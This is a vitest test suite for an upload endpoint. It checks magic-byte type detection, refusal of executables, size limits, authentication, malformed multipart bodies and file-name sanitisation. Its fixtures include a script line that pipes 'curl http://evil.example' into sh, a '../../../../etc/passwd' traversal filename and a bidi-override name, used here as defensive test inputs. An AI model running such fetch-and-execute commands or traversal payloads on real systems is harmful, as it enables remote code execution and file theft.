import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import { ConfigError, createMetrics, type HttpServer, loadConfig, type Metrics, startHttpServer, unauthenticated } from '@core/platform';
import { createLocalObjectStorage, createS3ObjectStorage, type ObjectStorage } from '@core/platform/storage';
import { testLogger } from '@core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createUploadHandler, sanitizeFileName, sniffContentType, type UploadHandlerOptions, uploadConfig } from '../src/uploads.js';

// A real 1×1 PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0\x01\x01'), Buffer.alloc(32), Buffer.from([0xff, 0xd9])]);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(24)]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.')]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

const MAX_FILE_BYTES = 64 * 1024;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** Test credentials: `good` is a salesperson, `admin` an administrator, anything else is invalid. */
const callers: Record<string, { subject: string; roles: string[] }> = {
  'Bearer good': { subject: 'user-1', roles: ['sales'] },
  'Bearer admin': { subject: 'admin-1', roles: ['admin'] },
};
const authenticate: UploadHandlerOptions['authenticate'] = async (req) => {
  if (req.headers.authorization === 'Bearer expired') throw unauthenticated('TOKEN_EXPIRED', 'the token has expired');
  return callers[req.headers.authorization ?? ''];
};

/** Every file under `dir`, relative to it. */
async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

/** A closed port: bound, read and released. */
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

interface Mounted {
  url: string;
  server: HttpServer;
}

/** Serves the handler at POST /uploads with the platform's HTTP server, as the gateway's `routes` would. */
async function mount(options: Partial<UploadHandlerOptions> & { storage: ObjectStorage }): Promise<Mounted> {
  const handler = createUploadHandler({ authenticate, logger: testLogger('uploads'), maxFileBytes: MAX_FILE_BYTES, ...options });
  const server = await startHttpServer(
    async (req, res) => {
      if (req.url?.split('?')[0] === '/uploads') return handler(req, res);
      res.writeHead(404).end();
    },
    0,
    '127.0.0.1',
  );
  return { url: `http://127.0.0.1:${server.port}/uploads`, server };
}

interface Answer {
  status: number;
  headers: Headers;
  body: { id?: string; contentType?: string; size?: number; sha256?: string; errors?: { message: string; extensions: { code: string; reason: string } }[] };
}

async function upload(url: string, files: { bytes: Buffer; name?: string; type?: string }[], token: string | null = 'good'): Promise<Answer> {
  const form = new FormData();
  for (const [i, file] of files.entries()) {
    form.append(`file${i}`, new Blob([file.bytes], { type: file.type ?? 'application/octet-stream' }), file.name ?? 'file.bin');
  }
  const response = await fetch(url, { method: 'POST', body: form, headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: response.status, headers: response.headers, body: (await response.json()) as Answer['body'] };
}

/** Sends a raw body with the given headers (for malformed forms, which fetch would not produce). */
async function rawPost(url: string, body: string | Buffer, headers: Record<string, string>): Promise<Answer> {
  const response = await fetch(url, { method: 'POST', body, headers: { authorization: 'Bearer good', ...headers } });
  return { status: response.status, headers: response.headers, body: (await response.json()) as Answer['body'] };
}

const errorOf = (answer: Answer) => ({ status: answer.status, ...answer.body.errors?.[0]?.extensions });

let workDir: string;
let root: string;
let storage: ObjectStorage;
let metrics: Metrics;
let mounted: Mounted;
let adminsOnly: Mounted;

beforeAll(async () => {
  workDir = await mkdtemp(path.join(tmpdir(), 'uploads-'));
  root = path.join(workDir, 'files');
  storage = createLocalObjectStorage({ root });
  metrics = createMetrics();
  mounted = await mount({ storage, metrics });
  adminsOnly = await mount({ storage, roles: ['admin'] });
});

afterAll(async () => {
  await mounted?.server.close();
  await adminsOnly?.server.close();
  await rm(workDir, { recursive: true, force: true });
});

/** Runs `fn` and asserts the storage root holds exactly the same files afterwards (nothing stored, nothing left over). */
async function storesNothing(fn: () => Promise<void>): Promise<void> {
  const before = await filesUnder(root);
  await fn();
  expect(await filesUnder(root)).toEqual(before);
}

describe('POST /uploads', () => {
  it('stores a PNG named .pdf and declared as a PDF as image/png, with uploader and sanitised name', async () => {
    const answer = await upload(mounted.url, [{ bytes: PNG, name: 'laporan.pdf', type: 'application/pdf' }]);
    expect(answer.status).toBe(201);
    expect(answer.body).toEqual({ id: expect.stringMatching(UUID), contentType: 'image/png', size: PNG.length, sha256: sha256(PNG) });

    const stored = await storage.get(`uploads/${answer.body.id}`);
    expect(stored?.object).toMatchObject({
      contentType: 'image/png',
      size: PNG.length,
      metadata: { 'uploaded-by': 'user-1', 'original-name': 'laporan.pdf' },
    });
    expect((await buffer(stored!.body)).equals(PNG)).toBe(true);
  });

  it('recognises JPEG, WebP and PDF by their first bytes, whatever the name and declared type say', async () => {
    for (const [bytes, contentType] of [
      [JPEG, 'image/jpeg'],
      [WEBP, 'image/webp'],
      [PDF, 'application/pdf'],
    ] as const) {
      const answer = await upload(mounted.url, [{ bytes, name: 'x.exe', type: 'application/x-msdownload' }]);
      expect({ status: answer.status, contentType: answer.body.contentType, size: answer.body.size }).toEqual({
        status: 201,
        contentType,
        size: bytes.length,
      });
    }
  });

  it('refuses executables (ELF, PE, scripts) with 415 even when named and declared as images, and stores nothing', async () => {
    await storesNothing(async () => {
      for (const bytes of [ELF, PE, SCRIPT]) {
        const answer = await upload(mounted.url, [{ bytes, name: 'photo.png', type: 'image/png' }]);
        expect(errorOf(answer)).toEqual({ status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', reason: 'EXECUTABLE_REFUSED' });
      }
      const text = await upload(mounted.url, [{ bytes: Buffer.from('just some text, not a picture'), name: 'a.jpg', type: 'image/jpeg' }]);
      expect(errorOf(text)).toEqual({ status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', reason: 'UNSUPPORTED_TYPE' });
    });
  });

  it('refuses a file over the size limit with 413 and leaves nothing in storage; exactly the limit is stored', async () => {
    const big = Buffer.concat([PNG, Buffer.alloc(MAX_FILE_BYTES + 1 - PNG.length, 7)]);
    await storesNothing(async () => {
      expect(errorOf(await upload(mounted.url, [{ bytes: big, name: 'big.png' }]))).toEqual({
        status: 413,
        code: 'PAYLOAD_TOO_LARGE',
        reason: 'FILE_TOO_LARGE',
      });
    });
    const exact = await upload(mounted.url, [{ bytes: big.subarray(0, MAX_FILE_BYTES), name: 'exact.png' }]);
    expect({ status: exact.status, size: exact.body.size }).toEqual({ status: 201, size: MAX_FILE_BYTES });
  });

  it('refuses a request declaring a body far over the limit before reading it', async () => {
    await storesNothing(async () => {
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = request(mounted.url, {
          method: 'POST',
          headers: {
            authorization: 'Bearer good',
            'content-type': 'multipart/form-data; boundary=x',
            'content-length': String(100 * 1024 * 1024),
          },
        });
        req.on('response', async (res) => resolve({ status: res.statusCode ?? 0, body: (await buffer(res)).toString() }));
        req.on('error', reject);
        // Only the head is sent: the answer must not wait for the 100 MiB.
        req.flushHeaders();
      });
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).errors[0].extensions.reason).toBe('FILE_TOO_LARGE');
    });
  });

  it('stops reading a request without a declared length once it outgrows the limit', async () => {
    await storesNothing(async () => {
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = request(mounted.url, {
          method: 'POST',
          headers: { authorization: 'Bearer good', 'content-type': 'multipart/form-data; boundary=b0und', 'transfer-encoding': 'chunked' },
        });
        req.on('response', async (res) => resolve({ status: res.statusCode ?? 0, body: (await buffer(res)).toString() }));
        req.on('error', reject);
        req.write('--b0und\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n');
        req.write(PNG);
        // Far past file limit and form overhead, written without waiting: the server answers mid-stream.
        const chunk = Buffer.alloc(16 * 1024, 5);
        let written = 0;
        const pump = () => {
          while (written < 4 * MAX_FILE_BYTES + 256 * 1024) {
            written += chunk.length;
            if (!req.write(chunk)) return void req.once('drain', pump);
          }
          req.end('\r\n--b0und--\r\n');
        };
        pump();
      });
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).errors[0].extensions.reason).toBe('FILE_TOO_LARGE');
    });
  });

  it('keeps a ../ file name from escaping the storage root: the key is a generated id', async () => {
    const answer = await upload(mounted.url, [{ bytes: PDF, name: '../../../../etc/passwd' }]);
    expect(answer.status).toBe(201);
    const files = await filesUnder(workDir);
    expect(files.every((f) => f.startsWith(`files${path.sep}`))).toBe(true);
    expect(files).toContain(path.join('files', 'objects', 'uploads', answer.body.id!));
    expect((await storage.stat(`uploads/${answer.body.id}`))?.metadata['original-name']).toBe('passwd');
  });

  it('answers 401 with a Bearer challenge and stores nothing without a valid token', async () => {
    await storesNothing(async () => {
      const none = await upload(mounted.url, [{ bytes: PNG }], null);
      expect(errorOf(none)).toEqual({ status: 401, code: 'UNAUTHENTICATED', reason: 'AUTHENTICATION_REQUIRED' });
      expect(none.headers.get('www-authenticate')).toBe('Bearer');

      const invalid = await upload(mounted.url, [{ bytes: PNG }], 'forged');
      expect(errorOf(invalid)).toEqual({ status: 401, code: 'UNAUTHENTICATED', reason: 'AUTHENTICATION_REQUIRED' });
      expect(invalid.headers.get('www-authenticate')).toBe('Bearer error="invalid_token"');

      const expired = await upload(mounted.url, [{ bytes: PNG }], 'expired');
      expect(errorOf(expired)).toEqual({ status: 401, code: 'UNAUTHENTICATED', reason: 'TOKEN_EXPIRED' });
    });
  });

  it('answers 403 when the handler requires a role the caller lacks', async () => {
    await storesNothing(async () => {
      expect(errorOf(await upload(adminsOnly.url, [{ bytes: PNG }], 'good'))).toEqual({ status: 403, code: 'FORBIDDEN', reason: 'ROLE_REQUIRED' });
    });
    expect((await upload(adminsOnly.url, [{ bytes: PNG }], 'admin')).status).toBe(201);
  });

  it('takes one file per request: two files are refused and neither is kept', async () => {
    await storesNothing(async () => {
      const answer = await upload(mounted.url, [
        { bytes: PNG, name: 'a.png' },
        { bytes: JPEG, name: 'b.jpg' },
      ]);
      expect(errorOf(answer)).toEqual({ status: 400, code: 'BAD_REQUEST', reason: 'TOO_MANY_FILES' });
    });
  });

  it('refuses an empty file and a form without a file', async () => {
    await storesNothing(async () => {
      expect(errorOf(await upload(mounted.url, [{ bytes: Buffer.alloc(0), name: 'empty.png' }]))).toEqual({
        status: 400,
        code: 'BAD_REQUEST',
        reason: 'EMPTY_FILE',
      });
      const form = new FormData();
      form.append('note', 'no file here');
      const response = await fetch(mounted.url, { method: 'POST', body: form, headers: { authorization: 'Bearer good' } });
      expect(response.status).toBe(400);
      expect(((await response.json()) as Answer['body']).errors?.[0]?.extensions.reason).toBe('NO_FILE');
    });
  });

  it('refuses malformed multipart with 400 and stores nothing', async () => {
    await storesNothing(async () => {
      const noBoundary = await rawPost(mounted.url, 'whatever', { 'content-type': 'multipart/form-data' });
      expect(errorOf(noBoundary)).toEqual({ status: 400, code: 'BAD_REQUEST', reason: 'MALFORMED_MULTIPART' });

      // A PNG part whose form never ends: the file must not survive the broken request.
      const truncated = Buffer.concat([
        Buffer.from('--b0und\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'),
        PNG,
      ]);
      expect(errorOf(await rawPost(mounted.url, truncated, { 'content-type': 'multipart/form-data; boundary=b0und' }))).toEqual({
        status: 400,
        code: 'BAD_REQUEST',
        reason: 'MALFORMED_MULTIPART',
      });

      const garbageHeader = '--b0und\r\nthis is not a header\r\n\r\n\r\n--b0und--\r\n';
      expect((await rawPost(mounted.url, garbageHeader, { 'content-type': 'multipart/form-data; boundary=b0und' })).status).toBe(400);
    });
  });

  it('refuses bodies that are not multipart with 415 and other methods with 405 and Allow', async () => {
    const json = await rawPost(mounted.url, '{"file":"iVBOR"}', { 'content-type': 'application/json' });
    expect(errorOf(json)).toEqual({ status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', reason: 'NOT_MULTIPART' });

    for (const method of ['GET', 'PUT', 'DELETE']) {
      const response = await fetch(mounted.url, { method, headers: { authorization: 'Bearer good' } });
      expect(response.status).toBe(405);
      expect(response.headers.get('allow')).toBe('POST');
      expect(((await response.json()) as Answer['body']).errors?.[0]?.extensions.code).toBe('METHOD_NOT_ALLOWED');
    }
  });

  it('leaves nothing behind when the client disconnects mid-upload', async () => {
    await storesNothing(async () => {
      const head = '--b0und\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
      const req = request(mounted.url, {
        method: 'POST',
        headers: { authorization: 'Bearer good', 'content-type': 'multipart/form-data; boundary=b0und', 'transfer-encoding': 'chunked' },
      });
      req.on('error', () => {});
      req.write(head);
      req.write(PNG);
      req.write(Buffer.alloc(16 * 1024, 1));
      await new Promise((resolve) => setTimeout(resolve, 200));
      req.destroy();
      // The server notices the reset and discards the temporary file.
      await new Promise((resolve) => setTimeout(resolve, 300));
    });
    expect(await filesUnder(path.join(root, 'tmp'))).toEqual([]);
  });

  it('answers 503 when storage is down', async () => {
    const down = createS3ObjectStorage({
      bucket: 'uploads',
      endpoint: `http://127.0.0.1:${await closedPort()}`,
      forcePathStyle: true,
      credentials: { accessKeyId: 'x', secretAccessKey: 'y' },
      logger: testLogger('s3'),
    });
    const unavailable = await mount({ storage: down });
    try {
      expect(errorOf(await upload(unavailable.url, [{ bytes: PNG }]))).toEqual({ status: 503, code: 'UNAVAILABLE', reason: 'STORAGE_UNAVAILABLE' });
    } finally {
      await unavailable.server.close();
      await down.close();
    }
  });

  it('counts uploads by outcome and the bytes stored', async () => {
    // prom-client hands out its live value objects: copy, or "before" changes along.
    const snapshot = async () => JSON.parse(JSON.stringify(await metrics.registry.getMetricsAsJSON())) as Awaited<ReturnType<typeof metrics.registry.getMetricsAsJSON>>;
    const before = await snapshot();
    const counted = (taken: typeof before, name: string, outcome?: string) =>
      taken.find((m) => m.name === name)?.values.find((v) => outcome === undefined || v.labels.outcome === outcome)?.value ?? 0;
    await upload(mounted.url, [{ bytes: PDF }]);
    await upload(mounted.url, [{ bytes: ELF }]);
    await upload(mounted.url, [{ bytes: PNG }], null);
    const after = await snapshot();
    expect(counted(after, 'uploads_total', 'stored') - counted(before, 'uploads_total', 'stored')).toBe(1);
    expect(counted(after, 'uploads_total', 'unsupported_type') - counted(before, 'uploads_total', 'unsupported_type')).toBe(1);
    expect(counted(after, 'uploads_total', 'unauthenticated') - counted(before, 'uploads_total', 'unauthenticated')).toBe(1);
    expect(counted(after, 'upload_stored_bytes_total') - counted(before, 'upload_stored_bytes_total')).toBe(PDF.length);
  });
});

describe('sniffContentType', () => {
  it('decides by magic bytes only', () => {
    expect(sniffContentType(PNG)).toBe('image/png');
    expect(sniffContentType(JPEG)).toBe('image/jpeg');
    expect(sniffContentType(WEBP)).toBe('image/webp');
    expect(sniffContentType(PDF)).toBe('application/pdf');
    // RIFF of another kind (WAV), a truncated PNG signature, executables, nothing.
    expect(sniffContentType(Buffer.from('RIFF\x24\0\0\0WAVEfmt '))).toBeUndefined();
    expect(sniffContentType(PNG.subarray(0, 7))).toBeUndefined();
    for (const bytes of [ELF, PE, SCRIPT, Buffer.alloc(0)]) expect(sniffContentType(bytes)).toBeUndefined();
  });
});

describe('sanitizeFileName', () => {
  it('keeps a readable base name without directories, controls, bidi overrides or leading dots', () => {
    expect(sanitizeFileName('../../etc/passwd')).toBe('passwd');
    expect(sanitizeFileName('C:\\Users\\x\\foto KTP.jpg')).toBe('foto KTP.jpg');
    expect(sanitizeFileName('invoice\u202Egpj.exe')).toBe('invoicegpj.exe');
    expect(sanitizeFileName('a\r\nb\u0000c.pdf')).toBe('abc.pdf');
    expect(sanitizeFileName('...hidden')).toBe('hidden');
    expect(sanitizeFileName('Surat Perintah – 日本.pdf')).toBe('Surat Perintah – 日本.pdf');
    expect(sanitizeFileName('../')).toBeUndefined();
    expect(sanitizeFileName(undefined)).toBeUndefined();
    expect(Buffer.byteLength(encodeURIComponent(sanitizeFileName('日'.repeat(500))!))).toBeLessThanOrEqual(1024);
  });
});

describe('uploadConfig', () => {
  it('defaults to 10 MiB files on the local filesystem and takes a limit from UPLOAD_MAX_BYTES', () => {
    const schema = z.object(uploadConfig);
    expect(loadConfig(schema, {})).toMatchObject({ UPLOAD_MAX_BYTES: 10 * 1024 * 1024, STORAGE_DRIVER: 'local', STORAGE_LOCAL_ROOT: '.data/files' });
    expect(loadConfig(schema, { UPLOAD_MAX_BYTES: '5242880', STORAGE_DRIVER: 's3' })).toMatchObject({ UPLOAD_MAX_BYTES: 5242880, STORAGE_DRIVER: 's3' });
    for (const bad of ['0', '-1', '1.5', 'ten', String(2 * 1024 * 1024 * 1024)]) {
      expect(() => loadConfig(schema, { UPLOAD_MAX_BYTES: bad })).toThrow(ConfigError);
    }
  });
});
